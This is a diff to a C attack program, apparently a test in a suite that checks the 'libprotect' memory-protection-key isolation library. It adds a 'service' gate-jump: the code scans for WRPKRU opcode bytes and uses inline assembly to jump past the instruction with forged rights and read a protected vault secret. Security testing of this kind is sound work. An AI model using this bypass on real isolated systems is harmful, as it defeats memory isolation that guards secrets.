@@ -1,10 +1,14 @@
 /* Jumping into a gate: onto its WRPKRU with every key open in eax, or just
  * past it with the application's rights, as if its check had passed; or
  * onto its way out (the second WRPKRU) with the library's own rights, which
- * that check accepts (a caller library's), and a stack of the attacker's.
- * gate_jump onto|past|exit */
+ * that check accepts (a caller library's), and a stack of the attacker's;
+ * or past the service gate's WRPKRU (libprotect's runtime with a library's
+ * rights), with the library's rights in eax and a service that reads every
+ * thread's counts.
+ * gate_jump onto|past|exit|service */
 #include "attack.h"
 #include "gate_stub.h"
+#include "libprotect_symbols.h"
 
 #include <setjmp.h>
 #include <stdint.h>
@@ -54,9 +58,28 @@ static const volatile uint8_t *steal_by_exit(void *arg)
     return NULL;
 }
 
+static const volatile uint8_t *steal_by_service(void *arg)
+{
+    const uint8_t *past = arg;
+    const uint32_t *rights = libprotect_symbol("protect_gate_page"); /* the vault's: domain 0 */
+    static uint64_t answer[16];
+    __asm__ volatile("mov %2, %%eax\n xor %%ebx, %%ebx\n mov $4, %%r13d\n lea %3, %%r12\n"
+                     "xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%1"
+                     ::"r"(0), "r"(past), "r"(rights[0]), "m"(answer[0])
+                     : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "memory");
+    return vault_address(VAULT_DATA)->secret;
+}
+
 int main(int argc, char **argv)
 {
     vault_open();
+    if (argc > 1 && strcmp(argv[1], "service") == 0) {
+        const uint8_t *svc = libprotect_symbol("protect_service");
+        for (int i = 0; svc && i < 4096; i++)
+            if (svc[i] == 0x0f && svc[i + 1] == 0x01 && svc[i + 2] == 0xef)
+                steal_in_child(steal_by_service, (void *)(svc + i + 3));
+        blocked("no service gate found (a stripped libprotect only hides it)");
+    }
     uint32_t id = 0;
     const uint8_t *gate = gate_of((const uint8_t *)vault_counter, &id);
     if (!gate)
